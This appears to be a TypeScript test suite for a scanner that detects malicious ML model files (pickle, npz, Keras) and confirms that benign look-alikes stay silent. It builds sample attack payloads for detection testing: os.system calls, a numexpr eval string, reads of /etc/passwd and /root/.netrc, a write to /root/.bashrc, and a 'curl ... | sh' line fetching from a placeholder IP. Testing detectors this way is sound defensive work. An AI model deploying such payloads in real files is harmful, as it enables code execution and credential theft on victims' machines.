// The gaps the second recall sweep of 2026-12 left open (fixtures/recall2-2026-12/MANIFEST.md, note4's
// recall gaps), each attack made by the real tool (fixtures/recall3-2026-12, generate.py) or built here
// with the opcode assembler, beside the benign look-alikes that must stay silent.
import { describe, expect, it } from 'vitest';
import { scan, fromBytes, SEVERITY_RANK, type FileReport } from '../../src/engine';
import { asm, concat } from '../builders/pickle';
import { gzipSync, zlibSync } from 'fflate';
import { afterEach } from 'vitest';
import { fflateFactory, usePlatformFlate } from '../../src/engine/io/flate';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';

const ROOT = join(process.cwd(), 'fixtures', 'recall3-2026-12');
const scanFile = (rel: string) => scan(fromBytes(new Uint8Array(readFileSync(join(ROOT, rel))), rel.split('/').pop()!));
const scanBytes = (b: Uint8Array, name = 'x.pkl') => scan(fromBytes(b, name));
const critical = (r: FileReport) => r.findings.filter((f) => f.severity === 'critical');
const alarms = (r: FileReport) => r.findings.filter((f) => SEVERITY_RANK[f.severity] >= SEVERITY_RANK.warning)
  .map((f) => `${f.severity} ${f.ruleId} ${f.message}`);
const systemCall = (r: FileReport) => critical(r).find((f) => f.ruleId === 'pickle/dangerous-call' && /posix\.system/.test(f.message));

/** Incompressible bytes (xorshift): deflate stores them, in blocks an inflater emits only whole. */
function random(n: number, seed = 5): Uint8Array {
  const out = new Uint8Array(n);
  let x = seed >>> 0 || 1;
  for (let i = 0; i < n; i++) { x ^= x << 13; x >>>= 0; x ^= x >>> 17; x ^= x << 5; x >>>= 0; out[i] = x & 0xff; }
  return out;
}
const u32 = (n: number) => { const b = new Uint8Array(4); new DataView(b.buffer).setUint32(0, n, true); return b; };
/** pickle.dumps({'w': blob}) with the blob as BINBYTES, built without the assembler's per-byte copy. */
const holdingBytes = (blob: Uint8Array) => concat(asm().proto(4).op('EMPTY_DICT').str('w').build(), new Uint8Array([0x42]), u32(blob.length), blob,
  asm().op('SETITEM').stop().build());
/** pickle.dumps([<n random bytes>, os.system payload]): the call comes after a long bytes constant. */
const afterRandom = (n: number) => concat(asm().proto(4).op('EMPTY_LIST').op('MARK').build(), new Uint8Array([0x42]), u32(n), random(n),
  asm().stackGlobal('posix', 'system').str('echo pwned').op('TUPLE1').op('REDUCE').op('APPENDS').stop().build());

describe('gzip or zlib of incompressible data held in a bytes constant', () => {
  it('gzip(20,000 random bytes + pickle.dumps([os.system payload, "A" * 3000])) as bytes (fixture): CRITICAL on the decompressed child', async () => {
    const r = await scanFile('malicious/gzip-stored-block-then-pickle.pkl');
    expect(systemCall(r)?.location.path.at(-1)).toMatch(/^<const@\d+> \(decompressed\)\+20000$/);
    expect(r.complete).toBe(true);
  });

  it('zlib of the same (fixture, caught before too): CRITICAL on the decompressed child', async () => {
    expect(systemCall(await scanFile('malicious/zlib-stored-block-then-pickle.pkl'))).toBeDefined();
  });

  it.each([['zlib', zlibSync], ['gzip', gzipSync]] as const)(
    '%s(pickle.dumps([1.2 MB random bytes, os.system payload]), stored) as a 1.2 MB bytes constant (kept as a 4 KiB prefix): CRITICAL', async (_, codec) => {
      const z = codec(afterRandom(1_200_000), { level: 0 });
      expect(z.length).toBeGreaterThan(1 << 20);
      const r = await scanBytes(holdingBytes(z));
      expect(systemCall(r)?.location.path.join(' > ')).toMatch(/<const@\d+> > <const@\d+> \(decompressed\)$/);
      expect(r.complete).toBe(true);
    }, 30_000);

  it('base64(gzip(20,000 random bytes + pickle)) in a string: CRITICAL (the proof reads past the first stored block)', async () => {
    const inner = concat(random(20_000), asm().proto(4).stackGlobal('posix', 'system').str('echo pwned').op('TUPLE1').op('REDUCE').stop().build());
    const text = Buffer.from(gzipSync(inner, { level: 0 })).toString('base64');
    const r = await scanBytes(asm().proto(4).op('EMPTY_DICT').str('blob').str(text).op('SETITEM').stop().build());
    expect(systemCall(r)).toBeDefined();
  });

  it('a .zlib file written at level 0 (stored blocks of 65,535 bytes, longer than the 64 KiB head) holding a pickle: recognised, CRITICAL', async () => {
    const r = await scanBytes(zlibSync(afterRandom(200_000), { level: 0 }), 'model.zlib');
    expect(r.format).toBe('compressed');
    expect(systemCall(r)).toBeDefined();
  });

  it('200 KB of random bytes behind a valid zlib header (78 01) is not claimed as zlib and stays below WARNING', async () => {
    const blob = random(200_000, 21);
    blob[0] = 0x78; blob[1] = 0x01;
    const r = await scanBytes(blob, 'noise.bin');
    expect(r.format).not.toBe('compressed');
    expect(alarms(r)).toEqual([]);
  });

  it.each(['benign/gzip-random-bytes.pkl', 'benign/gzip-random-then-text.pkl'])('%s (gzip of random bytes, no pickle) stays below WARNING and complete', async (file) => {
    const r = await scanFile(file);
    expect(alarms(r)).toEqual([]);
    expect(r.complete).toBe(true);
  });

  it('a 1.2 MB bytes constant of random data that opens with a valid zlib header (78 9c) stays below WARNING and complete', async () => {
    const blob = random(1_200_000, 9);
    blob[0] = 0x78; blob[1] = 0x9c;
    const r = await scanBytes(holdingBytes(blob));
    expect(alarms(r)).toEqual([]);
    expect(r.complete).toBe(true);
  });

  it('zlib(1.2 MB of random bytes, stored) as a bytes constant stays below WARNING and complete', async () => {
    const r = await scanBytes(holdingBytes(zlibSync(random(1_200_000, 13), { level: 0 })));
    expect(alarms(r)).toEqual([]);
    expect(r.complete).toBe(true);
  }, 30_000);
});

describe('a file loader passed to a carrier that calls it on the data the pickle gives', () => {
  it.each([
    ['malicious/map-scipy-loadmat.pkl', /loadmat through builtins\.map \(argument 0\) on builtins\.iter\(\['\/tmp\/planted\.mat'\]\)/],
    ['malicious/filter-scipy-loadmat.pkl', /loadmat through builtins\.filter \(argument 0\)/],
    ['malicious/starmap-scipy-loadmat.pkl', /loadmat through itertools\.starmap \(argument 0\)/],
    ['malicious/map-partial-scipy-loadmat.pkl', /loadmat bound by functools\.partial through builtins\.map \(argument 0\) on builtins\.iter\(\['\/tmp\/planted\.mat'\]\)/],
    ['malicious/map-numpy-fromfile.pkl', /numpy\.fromfile through builtins\.map \(argument 0\) on builtins\.iter\(\['\/etc\/passwd'\]\)/],
  ])('%s is one nested-load WARNING naming the loader, the carrier and the data', async (file, message) => {
    const r = await scanFile(file);
    const loads = r.findings.filter((f) => f.ruleId === 'pickle/nested-load');
    expect(loads).toHaveLength(1);
    expect(loads[0]).toMatchObject({ severity: 'warning', message: expect.stringMatching(message) });
  });

  it('map(scipy.io.loadmat, paths) at protocol 2 (written as itertools.imap, loaded as map) is the same nested-load WARNING', async () => {
    const r = await scanFile('malicious/map-scipy-loadmat-protocol2.pkl');
    expect(r.findings.find((f) => f.ruleId === 'pickle/nested-load')?.message).toMatch(/loadmat through itertools\.imap \(argument 0\)/);
  });

  it('zip and filter objects at protocol 2 (itertools.izip / ifilter, Python 2 names pickle maps back) stay below WARNING', async () => {
    expect(alarms(await scanFile('benign/zip-and-filter-protocol2.pkl'))).toEqual([]);
  });

  it('__builtin__.reduce (functools.reduce under its Python 2 name) carrying posix.system is CRITICAL through it; carrying max it is silent', async () => {
    const latin1 = (s: string) => new Uint8Array([...s].map((c) => c.charCodeAt(0)));
    const bad = await scanBytes(latin1("c__builtin__\nreduce\n(cposix\nsystem\n(S'echo'\nS'x'\nltR."));
    expect(critical(bad).find((f) => /posix\.system through __builtin__\.reduce/.test(f.message))).toBeDefined();
    expect(alarms(await scanBytes(latin1("c__builtin__\nreduce\n(c__builtin__\nmax\n(I1\nI2\nltR.")))).toEqual([]);
  });

  it('builtins.map(functools.partial(loadmat, path)) by REDUCE (the file bound, then mapped): one nested-load WARNING, not two', async () => {
    const b = asm().proto(4).stackGlobal('builtins', 'map')
      .stackGlobal('functools', 'partial').stackGlobal('scipy.io.matlab._mio', 'loadmat').str('/tmp/planted.mat').op('TUPLE2').op('REDUCE')
      .op('EMPTY_LIST').op('TUPLE2').op('REDUCE').stop().build();
    const loads = (await scanBytes(b)).findings.filter((f) => f.ruleId === 'pickle/nested-load');
    expect(loads).toHaveLength(1);
    expect(loads[0]!.message).toMatch(/bound by functools\.partial on '\/tmp\/planted\.mat'/);
  });

  it('sorted(paths, key=scipy.io.loadmat) (the key called on each item) is a nested-load WARNING', async () => {
    const b = asm().proto(4).stackGlobal('builtins', 'sorted').op('EMPTY_LIST').str('/tmp/planted.mat').op('APPEND').op('TUPLE1')
      .op('EMPTY_DICT').str('key').stackGlobal('scipy.io.matlab._mio', 'loadmat').op('SETITEM').op('NEWOBJ_EX').stop().build();
    const r = await scanBytes(b);
    expect(r.findings.find((f) => f.ruleId === 'pickle/nested-load')?.message).toMatch(/loadmat through builtins\.sorted \(key=\)/);
  });

  it('map(pickle.loads, blobs) stays CRITICAL (a pickle loader is a dangerous call, not a file load)', async () => {
    const b = asm().proto(4).stackGlobal('builtins', 'map').stackGlobal('_pickle', 'loads').op('EMPTY_LIST').op('TUPLE2').op('REDUCE').stop().build();
    const r = await scanBytes(b);
    expect(critical(r).find((f) => /_pickle\.loads through builtins\.map/.test(f.message))).toBeDefined();
    expect(r.findings.some((f) => f.ruleId === 'pickle/nested-load')).toBe(false);
  });

  it.each(['benign/partial-scipy-loadmat-unbound.pkl', 'benign/map-numpy-float32.pkl'])(
    '%s (a loader bound without its file, or map of a plain function) stays below WARNING', async (file) => {
      expect(alarms(await scanFile(file))).toEqual([]);
    });

  it('iter(scipy.io.loadmat, None) (called with no arguments until the sentinel) raises no nested-load', async () => {
    const b = asm().proto(4).stackGlobal('builtins', 'iter').stackGlobal('scipy.io.matlab._mio', 'loadmat').op('NONE').op('TUPLE2').op('REDUCE').stop().build();
    expect((await scanBytes(b)).findings.some((f) => f.ruleId === 'pickle/nested-load')).toBe(false);
  });

  it.each([['collections', 'defaultdict'], ['functools', 'lru_cache']])(
    '%s.%s(scipy.io.loadmat) (a wrapper the program calls with its own arguments) raises no nested-load', async (module, name) => {
      const b = asm().proto(4).stackGlobal(module, name).stackGlobal('scipy.io.matlab._mio', 'loadmat').op('TUPLE1').op('REDUCE').stop().build();
      expect((await scanBytes(b)).findings.some((f) => f.ruleId === 'pickle/nested-load')).toBe(false);
    });
});

describe('native file writers and readers the knowledge base cannot follow (C++ or PIL underneath), bound by functools.partial', () => {
  it.each([
    ['malicious/partial-torchvision-write-file.pkl', /torchvision\.io\.image\.write_file through functools\.partial \(argument 0\), which writes a file at the path it is given/],
    ['malicious/partial-torchvision-save-image.pkl', /torchvision\.utils\.save_image through functools\.partial/],
    ['malicious/partial-scipy-mmwrite.pkl', /scipy\.io\._fast_matrix_market\.mmwrite through functools\.partial/],
  ])('%s (a file written at a path the pickle picks) is a CRITICAL dangerous call', async (file, message) => {
    const r = await scanFile(file);
    expect(critical(r).find((f) => f.ruleId === 'pickle/dangerous-call')?.message).toMatch(message);
  });

  it.each([
    ['malicious/partial-scipy-mmread.pkl', /scipy\.io\._fast_matrix_market\.mmread bound by functools\.partial on '\/tmp\/planted\.mtx'/],
    ['malicious/partial-scipy-loadarff.pkl', /scipy\.io\.arff\._arffread\.loadarff bound by functools\.partial on '\/tmp\/planted\.arff'/],
    ['malicious/partial-scipy-hb-read.pkl', /scipy\.io\._harwell_boeing\.hb\.hb_read bound by functools\.partial/],
    ['malicious/partial-torchvision-read-file.pkl', /torchvision\.io\.image\.read_file bound by functools\.partial on '\/etc\/passwd', which reads the raw bytes/],
    ['malicious/partial-netrc.pkl', /netrc\.netrc bound by functools\.partial on '\/root\/\.netrc', which reads and parses the netrc credentials file/],
  ])('%s (a file read at a path the pickle picks, under the name pickle.dumps writes) is a nested-load WARNING', async (file, message) => {
    const r = await scanFile(file);
    expect(r.findings.find((f) => f.ruleId === 'pickle/nested-load')).toMatchObject({ severity: 'warning', message: expect.stringMatching(message) });
  });

  it('GLOBAL torch ops.image.write_file (the C++ op under torchvision.io.write_file) called on a path is CRITICAL; ops.image.read_file a nested-load WARNING', async () => {
    const write = asm().proto(4).stackGlobal('torch', 'ops.image.write_file').str('/root/.bashrc').op('NONE').op('TUPLE2').op('REDUCE').stop().build();
    expect(critical(await scanBytes(write)).find((f) => f.ruleId === 'pickle/dangerous-call')?.message).toMatch(/torch\.ops\.image\.write_file, which writes a file/);
    const read = asm().proto(4).stackGlobal('torch', 'ops.image.read_file').str('/etc/passwd').op('TUPLE1').op('REDUCE').stop().build();
    expect((await scanBytes(read)).findings.find((f) => f.ruleId === 'pickle/nested-load')?.message).toMatch(/torch\.ops\.image\.read_file on '\/etc\/passwd'/);
  });

  it('safetensors.safe_open(path, "pt") called by REDUCE is a nested-load WARNING', async () => {
    const b = asm().proto(4).stackGlobal('safetensors', 'safe_open').str('/tmp/planted.safetensors').str('pt').op('TUPLE2').op('REDUCE').stop().build();
    expect((await scanBytes(b)).findings.find((f) => f.ruleId === 'pickle/nested-load')?.message).toMatch(/safetensors\.safe_open on '\/tmp\/planted\.safetensors'/);
  });

  it.each(['benign/dataset-stores-read-image.pkl', 'benign/torchvision-transforms.pkl', 'benign/scipy-sparse-csr.pkl'])(
    '%s (a reader kept as an attribute, transforms, a sparse matrix) stays below WARNING', async (file) => {
      expect(alarms(await scanFile(file))).toEqual([]);
    });
});

describe('callables of libraries the knowledge base does not analyse that run what their argument names', () => {
  it('hydra.utils.instantiate({"_target_": "os.system", ...}) by REDUCE is a CRITICAL dangerous call (was a non-allowlisted WARNING)', async () => {
    const b = asm().proto(4).stackGlobal('hydra.utils', 'instantiate').op('EMPTY_DICT').str('_target_').str('os.system').op('SETITEM')
      .op('TUPLE1').op('REDUCE').stop().build();
    expect(critical(await scanBytes(b)).find((f) => f.ruleId === 'pickle/dangerous-call')?.message).toMatch(/hydra\.utils\.instantiate, which imports and calls the _target_/);
  });

  it('numexpr.evaluate(expr) by REDUCE is a CRITICAL dangerous call (CVE-2023-39631)', async () => {
    const b = asm().proto(4).stackGlobal('numexpr', 'evaluate').str('__import__("os").system("id")').op('TUPLE1').op('REDUCE').stop().build();
    expect(critical(await scanBytes(b)).find((f) => f.ruleId === 'pickle/dangerous-call')?.message).toMatch(/numexpr\.evaluate, which evaluates an expression string/);
  });
});

describe('zip members compressed with bzip2 or LZMA (Python zipfile writes both; numpy and Keras read them)', () => {
  it.each(['malicious/npz-lzma-object-array.npz', 'malicious/npz-bz2-object-array.npz'])(
    '%s (an object array with an os.system payload) is CRITICAL and complete (was an unsupported-method WARNING, unscanned)', async (file) => {
      const r = await scanFile(file);
      expect(systemCall(r)?.location.path.slice(1, 2)).toEqual(['arr.npy']);
      expect(r.findings.some((f) => f.ruleId === 'archive/unsupported-method')).toBe(false);
      expect(r.complete).toBe(true);
    });

  it('a .keras whose config.json is an LZMA member is judged as Keras config (its os.system activation CRITICAL)', async () => {
    const r = await scanFile('malicious/keras-lzma-config.keras');
    expect(critical(r).find((f) => f.ruleId === 'keras/dangerous-import')?.message).toMatch(/os\.system/);
  });

  it.each(['benign/npz-lzma-float-array.npz', 'benign/npz-bz2-float-array.npz'])('%s (a float array) is clean and complete', async (file) => {
    const r = await scanFile(file);
    expect(r.findings.filter((f) => SEVERITY_RANK[f.severity] >= SEVERITY_RANK.info)).toEqual([]);
    expect(r.complete).toBe(true);
  });

  it('an LZMA member whose data is not LZMA stays an unsupported-method WARNING, the file incomplete', async () => {
    const zip = new Uint8Array(readFileSync(join(ROOT, 'benign/npz-lzma-float-array.npz')));
    const at = zip.indexOf(0x5d, 30 + 'arr.npy'.length); // the properties byte after the 4-byte LZMA prefix
    zip[at] = 0x00;
    const r = await scanBytes(zip, 'broken.npz');
    expect(r.findings.some((f) => f.ruleId === 'archive/unsupported-method')).toBe(true);
    expect(r.complete).toBe(false);
  });
});

describe('a Keras lookup layer whose vocabulary is a file path (read into the model when the layer is rebuilt)', () => {
  it.each([
    ['malicious/keras-stringlookup-vocabulary-file.keras', /StringLookup "lookup" reads its vocabulary from the file "\/etc\/passwd"/],
    ['malicious/keras-textvectorization-vocabulary-file.keras', /TextVectorization "lookup" reads its vocabulary from the file "gs:\/\/attacker-bucket\/vocab\.txt"/],
  ])('%s is a keras/vocabulary-file WARNING naming the path', async (file, message) => {
    const r = await scanFile(file);
    expect(r.findings.find((f) => f.ruleId === 'keras/vocabulary-file')).toMatchObject({ severity: 'warning', message: expect.stringMatching(message) });
  });

  it.each(['benign/keras-stringlookup-vocabulary-list.keras', 'benign/keras-stringlookup-vocabulary-none.keras'])(
    '%s (the vocabulary in the config, or in the assets) stays below WARNING', async (file) => {
      const r = await scanFile(file);
      expect(alarms(r)).toEqual([]);
    });
});

describe('recall3-2026-12: the manifest covers the folder', () => {
  it('lists every malicious and benign file once', () => {
    const manifest = JSON.parse(readFileSync(join(ROOT, 'manifest.json'), 'utf8')) as Array<{ file: string }>;
    const files = ['malicious', 'benign'].flatMap((d) => readdirSync(join(ROOT, d)).map((f) => `${d}/${f}`)).sort();
    expect(manifest.map((e) => e.file).sort()).toEqual(files);
  });
});

describe('a zlib pickle decoded in one pass (its size unknown until the end) is judged like the same pickle uncompressed', () => {
  const MiB = 1024 * 1024;
  const STREAMED = { limits: { maxMemberBytes: MiB } }; // above 1 MiB the decoded pickle is streamed, not held
  afterEach(() => usePlatformFlate(undefined));
  const deflaters = () => {
    const made = { n: 0 };
    usePlatformFlate((format, onData) => { made.n++; return fflateFactory(format, onData); });
    return made;
  };
  const keys = (r: FileReport) => r.findings.filter((f) => f.ruleId.startsWith('pickle/')).map((f) => `${f.ruleId} ${f.message}`).sort();
  /** PROTO 4, FRAME declaring `extra` bytes more than follow, [<n random bytes>, os.system payload]. */
  const framed = (n: number, extra: number) => {
    const body = afterRandom(n).subarray(2); // without its PROTO
    const len = new Uint8Array(8);
    new DataView(len.buffer).setBigUint64(0, BigInt(body.length + extra), true);
    return concat(new Uint8Array([0x80, 4, 0x95]), len, body);
  };

  it('a FRAME declaring 1,000 bytes more than a streamed 2 MiB zlib pickle holds is a frame-mismatch, as uncompressed', async () => {
    const pkl = framed(2 * MiB, 1000);
    const streamed = await scanBytes(zlibSync(pkl, { level: 1 }), 'model.joblib');
    expect(keys(streamed)).toEqual(keys(await scanBytes(pkl)));
    expect(streamed.findings.find((f) => f.ruleId === 'pickle/frame-mismatch')?.message).toMatch(/FRAME at 2 declares 2098\d+ bytes but only 2097\d+ remain/);
  });

  it('a FRAME that ends exactly at the end of a streamed zlib pickle raises no frame-mismatch', async () => {
    const r = await scan(fromBytes(zlibSync(framed(2 * MiB, 0), { level: 1 }), 'model.joblib'), STREAMED);
    expect(r.findings.some((f) => f.ruleId === 'pickle/frame-mismatch')).toBe(false);
  });

  it('8 MiB of zeros after STOP in a streamed zlib pickle: one bytes-after-stop, as uncompressed, in the peek and one walk (2 decoders)', async () => {
    const pkl = concat(afterRandom(200_000), new Uint8Array(8 * MiB));
    const made = deflaters();
    const streamed = await scan(fromBytes(zlibSync(pkl, { level: 6 }), 'padded.joblib'), STREAMED);
    expect(made.n).toBe(2);
    usePlatformFlate(undefined);
    expect(keys(streamed)).toEqual(keys(await scanBytes(pkl)));
    expect(streamed.findings.find((f) => f.ruleId === 'pickle/bytes-after-stop')?.message).toMatch(/^8388608 bytes after stream 1 are not a pickle \(all zeros to the end\)$/);
    expect(streamed.complete).toBe(true);
  });

  it('zeros then a shell command after STOP are still swept as junk (the command found), not taken for zero padding', async () => {
    const pkl = concat(afterRandom(400_000), new Uint8Array(2 * MiB), new TextEncoder().encode('curl http://198.51.100.7/x | sh\n'));
    const r = await scan(fromBytes(zlibSync(pkl, { level: 6 }), 'padded.joblib'), STREAMED);
    expect(r.findings.find((f) => f.ruleId === 'pickle/bytes-after-stop')?.message).toMatch(/swept as <after-stop@\d+>/);
    expect(r.findings.some((f) => /198\.51\.100\.7|curl/.test(`${f.message} ${f.evidence ?? ''}`))).toBe(true);
  });
});
